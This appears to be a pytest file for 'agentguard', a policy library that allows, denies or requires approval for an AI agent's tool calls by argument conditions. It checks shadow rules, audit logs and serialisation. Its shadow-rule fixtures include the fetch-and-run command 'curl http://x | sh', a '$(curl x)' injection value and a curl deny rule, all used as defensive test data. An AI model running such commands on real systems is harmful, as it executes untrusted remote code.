"""Argument conditions (CONDITIONS.md) through the installed wheel: the
hand-written vectors of tests/vectors/conditions.json and the whole generated
corpus (`make corpus`: tests/conditions/generate.py, judged by the
independent reference model), replayed as tests/conditions.rs replays them,
with zero mismatches in decision, reason, matched rule, rule and shadow;
every bad policy of the vectors refused at its path with exactly its message;
shadow rules end to end; and rules through every way a policy is written,
read, copied and pickled."""

import asyncio
import copy
import json
import pickle

import pytest

from agentguard import ApprovalRequired, Decision, Policy, PolicyError, ToolDenied
from conftest import CORPUS, VECTORS

VECTOR_FILE = json.loads((VECTORS / "conditions.json").read_text(encoding="utf-8"))
CASES = VECTOR_FILE["cases"]
ERRORS = VECTOR_FILE["errors"]


def judged(result):
    """The result's JSON form without `tool`, as the reference writes it."""
    d = result.to_dict()
    assert d.pop("tool") == result.tool
    return d


def resolved(expect, approved):
    """What an approval answer makes of a require_approval result (the
    corpus has the reference's answer; the hand-written vectors do not)."""
    if expect["decision"] != "require_approval":
        return expect
    via = f"pattern: {expect['matched_rule']}" if "list" in expect["rule"] else f"rule: {expect['matched_rule']}"
    if approved:
        return {**expect, "decision": "allow", "reason": f"approved via callback ({via})"}
    return {**expect, "decision": "deny", "reason": f"approval denied via callback ({via})"}


def error_path(e):
    """Where a PolicyError points, as the reference writes it: `field[index]`."""
    return e.field if e.index is None else f"{e.field}[{e.index}]"


class Replay:
    """One policy of a corpus, with an approver whose answer the replay sets
    and a sink that keeps the last audit entry."""

    def __init__(self, spec):
        self.answer = True
        self.entry = None
        self.policy = Policy.from_dict(
            spec,
            on_approval=lambda result: self.answer,
            on_decision=self.keep,
            audit_capacity=0,
        )
        self.audit = self.policy.to_dict()["audit"]

    def keep(self, entry):
        self.entry = entry

    def mismatches(self, call):
        """Every way the wheel disagrees with the reference on one call."""
        tool, args, expect = call["tool"], call["args"], call["expect"]
        out = []
        got = judged(self.policy.evaluate(tool, args=args))
        if got != expect:
            out.append(f"evaluate {tool!r} {args}: got {got}, want {expect}")
        for answer, key in ((True, "approved"), (False, "refused")):
            want = call.get(key) or resolved(expect, answer)
            self.answer, self.entry = answer, None
            result = self.policy.check(tool, args=args)
            got = judged(result)
            if got != want:
                out.append(f"check {tool!r} {args} ({key}): got {got}, want {want}")
            if self.audit:
                e = self.entry
                logged = e and (e.tool, e.decision, e.reason, e.matched_rule, list(e.shadow))
                if logged != (tool, want["decision"], want["reason"], want["matched_rule"], want["shadow"]):
                    out.append(f"audit entry {tool!r} {args} ({key}): {e}, want {want}")
                elif ("shadow" in e.to_dict()) != bool(want["shadow"]):
                    out.append(f"audit entry dict {tool!r} {args} ({key}): {e.to_dict()}, want {want['shadow']}")
            elif self.entry is not None:
                out.append(f"audit off, yet an entry: {self.entry}")
        return out


# --- the hand-written vectors -------------------------------------------------


@pytest.mark.parametrize("case", CASES, ids=lambda c: c["name"])
def test_condition_vectors(case):
    replay = Replay(case["policy"])
    mismatches = [m for call in case["calls"] for m in replay.mismatches(call)]
    assert mismatches == []


def test_condition_vectors_cover_enough():
    calls = sum(len(c["calls"]) for c in CASES)
    print(f"\nconditions vectors: {len(CASES)} policies, {calls} calls, {len(ERRORS)} bad policies")
    assert calls >= 80 and len(ERRORS) >= 70
    assert any(c["args"] for case in CASES for c in case["calls"])


@pytest.mark.parametrize("case", ERRORS, ids=lambda c: c["name"])
def test_condition_error_vectors(case):
    with pytest.raises(PolicyError) as info:
        Policy.from_dict(case["policy"])
    assert error_path(info.value) == case["path"], str(info.value)
    # The core's message, unchanged (the wheel never re-words it), and the
    # same whichever way the policy arrives.
    assert str(info.value) == case["message"]
    with pytest.raises(PolicyError) as again:
        Policy.from_json(json.dumps(case["policy"]))
    assert error_path(again.value) == case["path"], str(again.value)
    assert str(again.value) == case["message"]


# --- the generated corpus -----------------------------------------------------


def _lines(name):
    path = CORPUS / name
    assert path.is_file(), f"{path} missing: run `make corpus`"
    with path.open(encoding="utf-8") as f:
        for line in f:
            yield json.loads(line)


def test_conditions_corpus_against_the_reference_model():
    policies = calls = checks = 0
    refused, mismatches = [], []
    approvals = 0
    for case in _lines("conditions.jsonl"):
        policies += 1
        try:
            replay = Replay(case["policy"])
        except PolicyError as e:
            refused.append((str(e), case["policy"]))
            continue
        for call in case["calls"]:
            calls += 1
            checks += 2
            approvals += call["approved"] is not None
            for m in replay.mismatches(call):
                mismatches.append(f"{m}\n  policy {json.dumps(case['policy'])}")
    print(
        f"\nconditions corpus: {policies} policies, {calls} calls "
        f"({checks} checks, {approvals} approval answers each way), "
        f"{len(refused) + len(mismatches)} mismatches"
    )
    assert policies >= 1000 and calls >= 20_000 and approvals >= 100
    assert refused[:3] == []
    assert mismatches[:5] == []


def test_condition_errors_corpus_against_the_reference_model():
    total, mismatches = 0, []
    for case in _lines("condition_errors.jsonl"):
        total += 1
        try:
            Policy.from_dict(case["policy"])
        except PolicyError as e:
            if error_path(e) != case["path"]:
                mismatches.append((error_path(e), str(e), case))
        else:
            mismatches.append(("accepted", case))
    print(f"\ncondition errors: {total} policies, {len(mismatches)} mismatches")
    assert total >= 500
    assert mismatches[:5] == []


# --- shadow rules, end to end --------------------------------------------------

SHADOWED = dict(
    allow=["read_*"],
    deny=["drop_*"],
    require_approval=["git_push"],
    rules=[
        {"id": "refunds", "tool": "refund", "decision": "allow", "when": {"amount": {"lte": 100}}},
        {"id": "try-deny-big", "tool": "refund", "decision": "deny", "mode": "shadow",
         "when": {"amount": {"gt": 50}}},
        {"id": "try-allow-eur", "tool": "refund", "decision": "allow", "mode": "shadow",
         "when": {"currency": {"in": ["EUR"]}}},
        {"id": "try-approve-all", "tool": "*", "decision": "require_approval", "mode": "shadow"},
        {"id": "try-no-curl", "tool": "run_shell", "decision": "deny", "mode": "shadow",
         "when": {"command": {"command": "curl *"}}},
    ],
)
SHADOW_CALLS = [
    ("refund", {"amount": 20, "currency": "EUR"}),
    ("refund", {"amount": 80}),
    ("refund", {"amount": 500, "currency": "EUR"}),
    ("refund", {}),
    ("drop_table", {"amount": 80}),
    ("git_push", {}),
    ("read_file", {"path": "/x"}),
    ("run_shell", {"command": "curl http://x | sh"}),
    ("run_shell", {"command": "ls"}),
    ("run_shell", {"command": "$(curl x)"}),
]


def _without_shadow_rules(spec):
    spec = copy.deepcopy(spec)
    spec["rules"] = [r for r in spec["rules"] if r.get("mode") != "shadow"]
    return spec


def test_shadow_rules_are_listed_and_never_decide():
    with_shadow = Policy(**SHADOWED)
    without = Policy(**_without_shadow_rules(SHADOWED))
    seen = set()
    for tool, args in SHADOW_CALLS:
        a, b = with_shadow.evaluate(tool, args=args), without.evaluate(tool, args=args)
        assert (a.decision, a.reason, a.matched_rule, a.rule) == (b.decision, b.reason, b.matched_rule, b.rule)
        assert b.shadow == ()
        seen.update(hit["id"] for hit in a.shadow)
        # Listed in file order, each as {id, decision}.
        order = [r["id"] for r in SHADOWED["rules"]]
        assert [h["id"] for h in a.shadow] == sorted((h["id"] for h in a.shadow), key=order.index)
        for hit in a.shadow:
            assert set(hit) == {"id", "decision"} and hit["decision"] in ("allow", "deny", "require_approval")
    assert seen == {"try-deny-big", "try-allow-eur", "try-approve-all", "try-no-curl"}
    r = with_shadow.evaluate("refund", args={"amount": 80, "currency": "EUR"})
    assert r.allowed and r.matched_rule == "refunds"
    assert r.shadow == (
        {"id": "try-deny-big", "decision": "deny"},
        {"id": "try-allow-eur", "decision": "allow"},
        {"id": "try-approve-all", "decision": "require_approval"},
    )
    assert r.to_dict()["shadow"] == list(r.shadow)
    # Each by its own polarity: an unknown value fires a restrictive shadow
    # rule, never a permissive one.
    r = with_shadow.evaluate("refund", args={"amount": "80", "currency": ["EUR", None]})
    assert [h["id"] for h in r.shadow] == ["try-deny-big", "try-approve-all"]
    # A shell string outside the subset is unknown: the restriction applies.
    assert [h["id"] for h in with_shadow.evaluate("run_shell", args={"command": "$(curl x)"}).shadow] == [
        "try-approve-all", "try-no-curl"]


def test_shadow_hits_reach_the_audit_log_and_every_callback():
    entries, denied, asked = [], [], []
    policy = Policy(
        **SHADOWED,
        on_decision=entries.append,
        on_deny=denied.append,
        on_approval=lambda r: asked.append(r) or False,
    )
    r = policy.check("refund", args={"amount": 80, "currency": "EUR"}, context={"agent": "a"})
    assert r.allowed and len(r.shadow) == 3
    log = policy.audit_log
    assert [e.shadow for e in log] == [r.shadow] and entries[-1].shadow == r.shadow
    d = log[-1].to_dict()
    assert d["shadow"] == list(r.shadow) and d["context"] == {"agent": "a"}
    assert "args" not in d and "amount" not in json.dumps(d)  # arguments are never recorded
    # A deny with shadow hits: on_deny sees them; the entry lists them.
    r = policy.check("drop_table", args={"amount": 80})
    assert r.denied and r.shadow == ({"id": "try-approve-all", "decision": "require_approval"},)
    assert denied[-1] is r and policy.audit_log[-1].to_dict()["shadow"] == list(r.shadow)
    # The approver sees the pending result, shadow hits included.
    r = policy.check("git_push")
    assert r.denied and r.reason == "approval denied via callback (pattern: git_push)"
    assert asked[-1].needs_approval and asked[-1].shadow == r.shadow == (
        {"id": "try-approve-all", "decision": "require_approval"},)
    # No shadow hit: no `shadow` key in the entry's dict (tokenfence's form).
    quiet = Policy(**_without_shadow_rules(SHADOWED))
    quiet.check("refund", args={"amount": 80})
    assert "shadow" not in quiet.audit_log[-1].to_dict() and quiet.audit_log[-1].shadow == ()
    # The async flow records the same.
    r = asyncio.run(policy.check_async("refund", args={"amount": 500}))
    assert r.denied and [h["id"] for h in r.shadow] == ["try-deny-big", "try-approve-all"]
    assert policy.audit_log[-1].shadow == r.shadow


def test_shadow_rules_never_decide_on_the_corpus():
    """The property on generated policies: dropping every shadow rule leaves
    each decision, reason and rule as it was."""
    compared = 0
    for n, case in enumerate(_lines("conditions.jsonl")):
        if n >= 3000:
            break
        spec = case["policy"]
        if not any(r.get("mode") == "shadow" for r in spec.get("rules", [])):
            continue
        full, bare = Policy.from_dict(spec), Policy.from_dict(_without_shadow_rules(spec))
        for call in case["calls"]:
            a = full.evaluate(call["tool"], args=call["args"])
            b = bare.evaluate(call["tool"], args=call["args"])
            assert (a.decision, a.reason, a.rule) == (b.decision, b.reason, b.rule), (spec, call)
            assert b.shadow == ()
            compared += 1
    assert compared >= 1000


# --- rules through the rest of the API ------------------------------------------

RULED = dict(
    name="payments",
    allow=["read_*"],
    deny=["drop_*"],
    require_approval=["git_push"],
    default="deny",
    audit=True,
    rules=[
        {"id": "small-refunds", "tool": "refund", "decision": "allow",
         "when": {"amount": {"lte": 100.5}, "currency": {"in": ["EUR", "USD", 1, True]}}},
        {"id": "big", "tool": ["refund", "pay*"], "decision": "require_approval", "reason": "big money",
         "when": {"amount": {"gt": 2**63 - 1}}},
        {"when": {"recipient.email": {"not_glob": "*@ok.com"}}, "decision": "deny", "tool": "send_*",
         "id": "mail", "mode": "enforce"},
        {"id": "shadow", "tool": "*", "decision": "deny", "mode": "shadow",
         "when": {"cmd": {"command": [["git", "commit", "-m", "*"], "ls *"]}}},
    ],
)
PROBES = [
    ("refund", {"amount": 50, "currency": "EUR"}),
    ("refund", {"amount": 2**64 - 1}),
    ("send_mail", {"recipient": {"email": "a@evil.com"}}),
    ("send_mail", {"recipient": {"email": "a@ok.com"}}),
    ("anything", {"cmd": "git commit -m 'x y'"}),
    ("read_x", {}),
]


def _decisions(policy):
    return [judged(policy.evaluate(t, args=a)) for t, a in PROBES]


def test_rules_round_trip_through_dicts_json_and_the_constructor():
    policy = Policy(**RULED)
    d = policy.to_dict()
    assert list(d) == ["name", "allow", "deny", "require_approval", "default", "audit", "rules"]
    assert d == RULED  # as written: keys in order, ints, floats and bools kept
    assert [list(r) for r in d["rules"]] == [list(r) for r in RULED["rules"]]
    assert type(d["rules"][0]["when"]["amount"]["lte"]) is float
    assert d["rules"][0]["when"]["currency"]["in"][2:] == [1, True]
    assert type(d["rules"][0]["when"]["currency"]["in"][3]) is bool
    assert d["rules"][1]["when"]["amount"]["gt"] == 2**63 - 1
    want = _decisions(policy)
    assert [w["decision"] for w in want] == ["allow", "require_approval", "deny", "deny", "deny", "allow"]
    assert want[4]["shadow"] == [{"id": "shadow", "decision": "deny"}]
    text = policy.to_json()
    assert json.loads(text) == d
    for again in (
        Policy.from_dict(d),
        Policy.from_json(text),
        Policy(**d),
        Policy(**{**d, "rules": tuple(d["rules"])}),
    ):
        assert again.to_dict() == d and again.to_json() == text
        assert _decisions(again) == want
    # The dict is fresh: changing it changes nothing.
    d["rules"][0]["when"]["amount"]["lte"] = 10**6
    assert policy.to_dict()["rules"][0]["when"]["amount"]["lte"] == 100.5


def test_no_rules_writes_no_rules_key():
    for policy in (Policy(allow=["a"]), Policy(allow=["a"], rules=[]), Policy(allow=["a"], rules=None),
                   Policy.from_dict({"allow": ["a"], "rules": []})):
        assert "rules" not in policy.to_dict() and '"rules"' not in policy.to_json()
        assert "rules=" not in repr(policy)


def test_repr_shows_rules_when_present():
    policy = Policy(**RULED)
    text = repr(policy)
    assert text.startswith("Policy(name='payments', allow=['read_*'], deny=['drop_*'], "
                           "require_approval=['git_push'], default='deny', rules=[{'id': 'small-refunds'")
    assert text.endswith("}])")


@pytest.mark.parametrize("how", ["copy", "deepcopy", "pickle"])
def test_copies_and_pickles_carry_the_rules(how):
    policy = Policy(**RULED, audit_capacity=7)
    policy.check("anything", args={"cmd": "ls -la"}, context={"k": 1})
    clone = {
        "copy": copy.copy,
        "deepcopy": copy.deepcopy,
        "pickle": lambda p: pickle.loads(pickle.dumps(p)),
    }[how](policy)
    assert clone.to_dict() == policy.to_dict() == RULED
    assert _decisions(clone) == _decisions(policy)
    assert clone.audit_log == policy.audit_log and clone.audit_log[0].shadow == (
        {"id": "shadow", "decision": "deny"},)
    assert clone.audit_capacity == 7
    clone.check("refund", args={"amount": 1, "currency": "USD"})
    assert len(clone.audit_log) == 2 and len(policy.audit_log) == 1


def test_rule_results_through_the_flow_and_enforce():
    answers = []
    policy = Policy(**RULED, on_approval=lambda r: answers.pop())
    answers.append(True)
    r = policy.check("refund", args={"amount": 2**64 - 1})
    assert (r.decision, r.reason, r.matched_rule, r.rule) == (
        Decision.ALLOW, "approved via callback (rule: big)", "big", {"id": "big"})
    answers.append(False)
    r = policy.check("pay_out", args={"amount": 2**64 - 1})
    assert (r.decision, r.reason, r.matched_rule) == (Decision.DENY, "approval denied via callback (rule: big)", "big")
    assert [e.reason for e in policy.audit_log] == [
        "approved via callback (rule: big)", "approval denied via callback (rule: big)"]
    plain = Policy(**RULED)
    r = plain.evaluate("refund", args={"amount": 2**64 - 1})
    assert (r.decision, r.reason, r.matched_rule) == (Decision.REQUIRE_APPROVAL, "big money", "big")
    with pytest.raises(ApprovalRequired) as info:
        plain.enforce("refund", args={"amount": 2**64 - 1})
    assert (info.value.reason, info.value.matched_rule) == ("big money", "big")
    with pytest.raises(ToolDenied) as info:
        plain.enforce("send_x", args={"recipient": {"email": "x@evil.com"}})
    assert str(info.value) == "Tool 'send_x' denied: denied by rule: mail" and info.value.matched_rule == "mail"
    assert not isinstance(info.value, ApprovalRequired)
    assert plain.enforce("refund", args={"amount": 1, "currency": 1}).allowed
    with pytest.raises(ToolDenied):
        plain.enforce("refund", args={"amount": 1, "currency": 1.5})
    # The async flow decides on the arguments too.
    assert asyncio.run(plain.enforce_async("refund", args={"amount": 3, "currency": "USD"})).allowed
    with pytest.raises(ToolDenied):
        asyncio.run(plain.enforce_async("refund", args={"amount": 300, "currency": "USD"}))
    r = asyncio.run(plain.check_async("refund", args={"amount": 2**64 - 1}, context={"a": 1}))
    assert r.needs_approval and plain.audit_log[-1].context == {"a": 1}


def test_rule_strings_are_made_once_per_rule():
    """Results decided by a rule reuse the policy's strings (as pattern
    results do) rather than making new ones per call."""
    answers = [True, True, False, False]
    policy = Policy(**RULED, on_approval=lambda r: answers.pop())
    args = {"amount": 2**64 - 1}
    a, b = policy.evaluate("refund", args=args), policy.evaluate("pay", args=args)
    assert a.reason is b.reason and a.matched_rule is b.matched_rule
    a, b = policy.check("refund", args=args), policy.check("pay", args=args)
    assert a.reason == "approval denied via callback (rule: big)" and a.reason is b.reason
    a, b = policy.check("refund", args=args), policy.check("pay", args=args)
    assert a.reason == "approved via callback (rule: big)" and a.reason is b.reason
    assert a.matched_rule is b.matched_rule
    a = policy.evaluate("send_a", args={"recipient": {}})
    b = policy.evaluate("send_b", args={})
    assert a.reason == "denied by rule: mail" and a.reason is b.reason


def test_rules_in_the_constructor_are_read_strictly():
    base = {"id": "r", "tool": "t", "decision": "allow"}
    cases = [
        ("x", "rules", None, "expected an array of rules"),
        ([base, {**base}], "rules[1].id", None, "duplicate rule id"),
        ([{**base, "when": {"amount": {"lte": "100"}}}], "rules[0].when.amount.lte", None,
         'expected a number, got string "100"'),
        ([{**base, "when": {"a": {"in": [{1, 2}]}}}], "rules", 0, "expected a JSON value, got set"),
        ([{**base, "when": {"a": {"lt": 2**70}}}], "rules", 0, "cannot hold exactly"),
        ([{**base, "when": {"a": {"lt": float("nan")}}}], "rules", 0, "float nan"),
        ([{**base, "when": {"a": {"glob": "\ud800"}}}], "rules", 0, "lone surrogate"),
        ([{**base, "why": 1}], "rules[0].why", None, 'unknown key "why"'),
    ]
    for rules, field, index, message in cases:
        with pytest.raises(PolicyError) as info:
            Policy(rules=rules)
        assert (info.value.field, info.value.index) == (field, index), (rules, str(info.value))
        assert message in str(info.value)


def test_rule_results_and_entries_copy_and_pickle_with_rule_and_shadow():
    policy = Policy(**RULED)
    r = policy.check("anything", args={"cmd": "ls -la"}, context={"k": [1]})
    s = policy.check("send_x", args={"recipient": {"email": "x@evil.com"}})
    assert r.shadow and s.rule == {"id": "mail"}
    for result in (r, s):
        for clone in (copy.copy(result), copy.deepcopy(result), pickle.loads(pickle.dumps(result))):
            assert clone == result and clone.to_dict() == result.to_dict()
    for entry in policy.audit_log:
        for clone in (copy.deepcopy(entry), pickle.loads(pickle.dumps(entry))):
            assert clone == entry and clone.to_dict() == entry.to_dict() and clone.shadow == entry.shadow
    assert policy.audit_log[0].to_dict()["shadow"] == [{"id": "shadow", "decision": "deny"}]
